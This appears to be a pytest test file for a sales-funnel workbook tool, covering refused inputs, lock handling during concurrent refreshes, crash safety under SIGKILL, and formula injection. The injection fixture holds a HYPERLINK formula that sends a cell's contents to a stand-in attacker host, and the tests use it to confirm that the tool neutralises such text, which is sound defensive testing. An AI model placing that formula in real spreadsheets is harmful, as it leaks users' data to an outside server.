def test_force_refreshes_what_can_be_computed_and_lists_the_refusal(input_refusal_runs) -> None:
    runs, paths, hashes, forced = input_refusal_runs
    refreshed, report = runs[("forced.xlsm", "refresh")], runs[("forced.xlsm", "report")]
    assert refreshed["code"] == 0, refreshed["stderr"]
    assert refreshed["stdout"].startswith(f"Refreshed {len(OUTPUTS)} output tables from 0 deals.")
    issues = read_tables(forced, "tblIssues")["tblIssues"]
    assert ("amount", _INPUT_REFUSALS["amount_renamed.xlsm"][1], "table not used") in set(
        zip(issues["Column"], issues["Problem"], issues["What was done"]))
    assert report["code"] == 0, report["stderr"]
    payload = json.loads(report["stdout"])
    assert _INPUT_REFUSALS["amount_renamed.xlsm"][1] in {row["problem"] for row in payload["issues"]}


def test_the_funnel_script_exits_2_on_refused_inputs(input_refusal_runs, tmp_path: Path) -> None:
    runs, paths, hashes, _ = input_refusal_runs
    path = paths["amount_renamed.xlsm"]
    done = run_funnel_script("refresh", str(path), cwd=tmp_path)
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("funnel: amount_renamed.xlsm: Nothing was refreshed")
    assert done.stdout == "" and _sha256(path) == hashes["amount_renamed.xlsm"]


def test_a_refused_csv_folder_report_exits_2(tmp_path: Path) -> None:
    write_csv_folder({"opportunities": pd.DataFrame({"id": ["A1"], "stage": ["P"], "amout": [100]})}, tmp_path / "csv")
    runner = CliRunner()
    refused = runner.invoke(app, ["report", str(tmp_path / "csv"), "--format", "json"])
    assert refused.exit_code == 2
    assert " ".join(refused.output.split()) == (
        "funnel: csv: no report: the opportunities table has no column amount (found amout): rename it amount " + _FORCE)
    forced = runner.invoke(app, ["report", str(tmp_path / "csv"), "--format", "json", "--force"])
    assert forced.exit_code == 0 and json.loads(forced.output)["summary"][1] == {"metric": "open_deals", "value": 0}


# ---- concurrent refreshes -------------------------------------------------------------------------------
def _reference_outputs(book: Path, folder: Path) -> dict[str, pd.DataFrame]:
    # What a clean refresh of this workbook writes, read back (refreshing is deterministic).
    folder.mkdir(parents=True, exist_ok=True)
    ref = folder / "reference.xlsm"
    shutil.copy(book, ref)
    refresh(FileBook(ref))
    return read_tables(ref, list(OUTPUTS))


def _assert_valid_and_refreshed(path: Path, reference: dict[str, pd.DataFrame], *, openpyxl_too: bool = True) -> None:
    # A complete workbook: every output table equals the reference, calamine and openpyxl open it.
    outputs = read_tables(path, list(OUTPUTS))
    for name, frame in reference.items():
        pd.testing.assert_frame_equal(outputs[name], frame, obj=name)
    with CalamineWorkbook.from_path(str(path), load_tables=True) as wb:
        assert "Opportunities" in wb.sheet_names
    if openpyxl_too:
        assert "tblOpportunities" in openpyxl.load_workbook(path)["Opportunities"].tables


_PAUSED_REFRESH = textwrap.dedent(
    """
    import sys, time
    from pathlib import Path
    from workbook.package import save
    from funnel_cli import main as cli

    book, holding, release = sys.argv[1:4]

    def hold(tmp, dst):  # the new file is written and fsynced; hold the lock until released
        Path(holding).write_text("holding")
        deadline = time.monotonic() + 120  # hang guard only: the test releases it within seconds
        while not Path(release).exists() and time.monotonic() < deadline:
            time.sleep(0.01)

    save._before_replace = hold
    sys.argv = ["funnel", "refresh", book]
    cli.main()
    """
)


def test_a_second_refresh_while_the_first_is_saving_is_refused_as_busy(demo_book: Path, tmp_path: Path) -> None:
    book = tmp_path / "book.xlsm"
    shutil.copy(demo_book, book)
    reference = _reference_outputs(book, tmp_path / "ref")
    holding, release = tmp_path / "holding", tmp_path / "release"
    env = dict(os.environ, PYTHONPATH=str(REPO), COLUMNS="100")
    first = subprocess.Popen([sys.executable, "-c", _PAUSED_REFRESH, str(book), str(holding), str(release)],
                             env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120  # hang guard only: it gets there in about a second
        while not holding.exists():
            assert first.poll() is None, first.communicate()
            assert time.monotonic() < deadline, "hung: the first refresh never reached its save in 120 s"
            time.sleep(0.02)
        second = run_funnel_script("refresh", str(book), cwd=tmp_path)
        assert second.returncode == 2 and second.stdout == ""
        assert second.stderr.strip() == (
            f"funnel: book.xlsm is being refreshed by process {first.pid} (lock file {lock_path(book)}); "
            "wait for it to finish"
        )
        release.write_text("go")
        out, err = first.communicate(timeout=120)  # hang guard only
    finally:
        if first.poll() is None:
            first.kill()
    assert first.returncode == 0, err
    assert out.startswith(f"Refreshed {len(OUTPUTS)} output tables from 60 deals.")
    _assert_valid_and_refreshed(book, reference)
    assert _leftovers(tmp_path) == []


def test_two_refreshes_started_together_leave_one_valid_workbook(demo_book: Path, tmp_path: Path) -> None:
    book = tmp_path / "book.xlsm"
    shutil.copy(demo_book, book)
    reference = _reference_outputs(book, tmp_path / "ref")
    script = shutil.which("funnel") or pytest.skip("the funnel console script is not installed")
    env = dict(os.environ, PYTHONPATH=str(REPO), COLUMNS="100")
    runs = [subprocess.Popen([script, "refresh", str(book)], cwd=tmp_path, env=env, text=True,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, preexec_fn=_limit_memory) for _ in range(2)]
    results = [(p.wait(timeout=120), *p.communicate()) for p in runs]  # timeout: a hang guard only
    for code, out, err in results:
        # Each either saved, or was told the workbook is busy (never a traceback, never half a file).
        assert (code == 0 and err == "") or (code == 2 and "is being refreshed by process" in err), (code, err)
    assert any(code == 0 for code, _, _ in results)
    _assert_valid_and_refreshed(book, reference)
    assert _leftovers(tmp_path) == []


# ---- killed at any moment ---------------------------------------------------------------------------------
KILL_DEALS = 2000  # big enough that reading, computing and saving each take a visible slice of a second


@pytest.fixture(scope="module")
def kill_book(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, pd.DataFrame]]:
    """A 2,000-deal demo workbook (inputs only) and what a clean refresh of it writes."""
    root = tmp_path_factory.mktemp("kill")
    book = new_workbook(root / "book.xlsm", "en", demo_tables(size=KILL_DEALS, seed=5))
    return book, _reference_outputs(book, root / "ref")


def _kill_chain(book: Path, jobs: list[dict], workdir: Path) -> list[tuple[dict, dict, bytes]]:
    # Run the jobs back to back on ``book``; (job, result, the workbook's bytes after it).
    snapshots = workdir / "snapshots"
    snapshots.mkdir(parents=True)
    for i, job in enumerate(jobs):
        job["snapshot"] = [str(book), str(snapshots / f"{i}.xlsm")]
    results = run_in_harness(jobs, workdir / "runs")
    return [(job, result, (snapshots / f"{i}.xlsm").read_bytes()) for i, (job, result) in enumerate(zip(jobs, results))]


_LOCK, _TEMP = "~$book.xlsm.funnel-lock", "~$book.xlsm.*.funnel-tmp"
KILL_STEPS = [  # hook, the workbook after the kill, what the kill leaves next to it
    ("reading", "original", []),
    ("computing", "original", []),
    ("locked", "original", [_LOCK]),
    ("writing", "original", [_LOCK, _TEMP]),  # half the new file written
    ("replacing", "original", [_LOCK, _TEMP]),  # new file complete and fsynced, not yet in place
    ("replaced", "refreshed", [_LOCK]),  # in place; the lock not yet released
]


@pytest.fixture(scope="module")
def step_kills(kill_book, tmp_path_factory: pytest.TempPathFactory) -> dict:
    """SIGKILL a refresh at each named step, one after another on the same file, then let
    one refresh run to the end."""
    src, reference = kill_book
    root = tmp_path_factory.mktemp("steps")
    book = Path(shutil.copy(src, root / "book.xlsm"))
    original = book.read_bytes()
    jobs = [{"args": ["refresh", str(book)], "hook": hook} for hook, _, _ in KILL_STEPS]
    jobs.append({"args": ["refresh", str(book)]})
    runs = _kill_chain(book, jobs, root / "chain")
    return {"book": book, "original": original, "reference": reference, "runs": runs, "root": root / "chain"}


def test_a_refresh_killed_at_each_step_leaves_the_original_until_the_replace(step_kills) -> None:
    """Until the new file replaces the old one, the workbook is byte-identical to before;
    after, it is the refreshed workbook. Each kill's lock and temporary file are taken over
    and cleaned by the next refresh, and nothing is left once a refresh completes."""
    runs, original, reference = step_kills["runs"], step_kills["original"], step_kills["reference"]
    for i, ((hook, state, left), (job, result, after)) in enumerate(zip(KILL_STEPS, runs)):
        assert result["killed"] and not result["timed_out"], f"{hook}: the hook was never reached: {result}"
        assert sorted(n if n == _LOCK else _TEMP for n in result["left"]) == sorted(left), f"{hook}: left {result['left']}"
        if state == "original":
            assert after == original, f"killed while {hook}: the workbook changed"
        else:
            assert after != original
            _assert_valid_and_refreshed(step_kills["root"] / "snapshots" / f"{i}.xlsm", reference, openpyxl_too=False)
    last = runs[-1][1]
    assert last["code"] == 0 and last["left"] == [], last
    _assert_valid_and_refreshed(step_kills["book"], reference)


def test_a_refresh_killed_while_reading_leaves_nothing_in_the_temp_folder(step_kills) -> None:
    assert sorted(p.name for p in (step_kills["root"] / "runs" / "tmp").iterdir()) == []


def test_a_refresh_killed_at_timed_moments_leaves_a_whole_workbook(kill_book, tmp_path: Path) -> None:
    """SIGKILL refreshes at fixed delays and at fractions of a full refresh's time: after
    every kill the workbook is byte-identical to before or a complete refreshed workbook."""
    src, reference = kill_book
    timing = run_in_harness([{"args": ["refresh", str(_copy(src, tmp_path / "timing"))]}], tmp_path / "timing-run")[0]
    assert timing["code"] == 0, timing["stderr"]
    full = timing["wall"]
    book = Path(shutil.copy(src, tmp_path / "book.xlsm"))
    original = book.read_bytes()
    delays = [0.05, 0.1, 0.2, 0.4, 0.7 * full, 0.9 * full, 0.97 * full]
    jobs = [{"args": ["refresh", str(book)], "kill_after": d} for d in delays] + [{"args": ["refresh", str(book)]}]
    runs = _kill_chain(book, jobs, tmp_path / "chain")
    for i, (job, result, after) in enumerate(runs[:-1]):
        if after != original:
            _assert_valid_and_refreshed(tmp_path / "chain" / "snapshots" / f"{i}.xlsm", reference, openpyxl_too=False)
    last = runs[-1][1]
    assert last["code"] == 0 and last["left"] == [], last
    _assert_valid_and_refreshed(book, reference)


def _copy(src: Path, folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return Path(shutil.copy(src, folder / src.name))


# ---- text that looks like a formula ---------------------------------------------------------------------
INJECTED = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Open the quote")',
    "account": "+1-555-0100",
    "owner": "@team",
    "next_step": "-2+3",
}


@pytest.fixture(scope="module")
def injected_book(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    """The demo with formula-looking text typed into open deals (and their owner's closed ones)."""
    tables = demo_tables(size=60, seed=3)
    opps = tables["opportunities"].copy()
    open_rows = opps.index[opps["stage"].isin(["P", "I", "B"])]
    victim = open_rows[0]
    for column, text in INJECTED.items():
        opps.loc[victim, column] = text
    opps.loc[opps["owner"] == opps.loc[open_rows[1], "owner"], "owner"] = INJECTED["owner"]  # open and closed deals
    ids = [opps.loc[victim, "id"]]
    path = new_workbook(tmp_path_factory.mktemp("injection") / "book.xlsm", "en", {**tables, "opportunities": opps})
    return path, ids


def test_formula_text_is_written_as_text_in_the_refreshed_workbook(injected_book) -> None:
    path, _ = injected_book
    result = CliRunner().invoke(app, ["refresh", str(path)])
    assert result.exit_code == 0, result.output
    files = hostile.members(path)
    with open_package(path) as pkg:
        output_sheets = {pkg.table(name).sheet_part: pkg.table(name).sheet for name in OUTPUTS}
    found: dict[str, list[tuple[str, str]]] = {}
    for part, sheet in output_sheets.items():
        xml = files[part]
        assert b"<f>" not in xml and b"<f " not in xml, f"{sheet} holds a formula"
        for text in (INJECTED["name"], INJECTED["account"], INJECTED["owner"]):
            escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").encode()
            for ref, attrs in re.findall(rb'<c r="([A-Z]+[0-9]+)"([^>]*)><is><t[^>]*>' + re.escape(escaped) + rb"</t></is></c>", xml):
                assert attrs.endswith(b' t="inlineStr"'), (sheet, ref, attrs)
                found.setdefault(text, []).append((sheet, ref.decode()))
    # Each text reached the output sheets (deal scores, forecast by owner, accounts...).
    assert set(found) == {INJECTED["name"], INJECTED["account"], INJECTED["owner"]}, found
    wb = openpyxl.load_workbook(path)
    for text, places in found.items():
        for sheet, ref in places:
            cell = wb[sheet][ref]
            assert (cell.data_type, cell.value) == ("s", text), (sheet, ref)


def test_formula_text_is_carried_verbatim_by_report_json(injected_book) -> None:
    path, ids = injected_book
    result = CliRunner().invoke(app, ["report", str(path), "--format", "json"])
    assert result.exit_code == 0, result.output
    payload = json.loads(result.stdout)
    deal = next(r for r in payload["deal_scores"] if r["id"] == ids[0])
    assert (deal["name"], deal["account"], deal["owner"]) == (INJECTED["name"], INJECTED["account"], INJECTED["owner"])
    assert any(r["owner"] == INJECTED["owner"] for r in payload["forecast"])


def test_formula_text_in_csv_output_is_prefixed_everywhere(injected_book, tmp_path: Path) -> None:
    from funnel.analysis import run
    from workbook.mapping import read_inputs

    path, _ = injected_book
    report = run(*read_inputs(FileBook(path)))
    written = write_csv_folder(report.tables, tmp_path / "csv")
    cells = {p.name: [f for row in csv.reader(p.read_text(encoding="utf-8").splitlines()) for f in row] for p in written}
    everywhere = [f for fields in cells.values() for f in fields]
    for text in (INJECTED["name"], INJECTED["account"], INJECTED["owner"]):
        assert "'" + text in everywhere, text
        bare = sorted(name for name, fields in cells.items() if text in fields)
        assert not bare, f"{text!r} written bare in {bare}: a spreadsheet would run it"
